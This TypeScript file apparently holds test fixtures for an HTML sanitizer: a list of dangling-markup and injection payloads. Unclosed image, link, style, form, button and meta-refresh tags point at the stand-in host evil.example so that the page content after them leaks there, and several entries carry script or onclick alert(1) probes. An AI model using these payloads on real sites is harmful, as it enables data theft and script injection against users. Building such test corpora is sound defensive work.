import type { Attack } from './attack.ts';

/** Markup left open so that it takes the page behind it along, to another host or into another element. */
export const dangling: readonly Attack[] = [
  { name: 'a picture’s address in single quotes', html: "<img src='https://evil.example/?" },
  { name: 'a picture’s address in double quotes', html: '<img src="https://evil.example/?' },
  { name: 'a link’s address', html: '<a href="https://evil.example/?' },
  { name: 'a link never closed', html: '<a href=https://evil.example/><font size=9>go' },
  { name: 'a base’s target', html: '<base target="' },
  { name: 'a style never closed', html: "<style>@import '//evil.example/?" },
  {
    name: 'a form around all that follows',
    html: '<form action=https://evil.example/><input type=submit><input name="x',
  },
  {
    name: 'a button and an open area',
    html: '<button formaction=https://evil.example/>go</button><textarea name=x>',
  },
  { name: 'an open select', html: '<form action=https://evil.example/><select><option>' },
  { name: 'a tag never closed', html: '<div title="word" onclick=alert(1)' },
  { name: 'a bracket at the end', html: 'word <' },
  { name: 'a name at the end', html: 'word <script' },
  { name: 'an entity at the end', html: '<p>word &#x' },
  { name: 'an end tag at the end', html: '<script>alert(1)</scrip' },
  {
    name: 'an article that ends the article',
    html: '</p></div></article></main></body></html><script>alert(1)</script>',
  },
  {
    name: 'a refresh with an open address',
    html: "<meta http-equiv=refresh content='0;url=https://evil.example/?",
  },
];
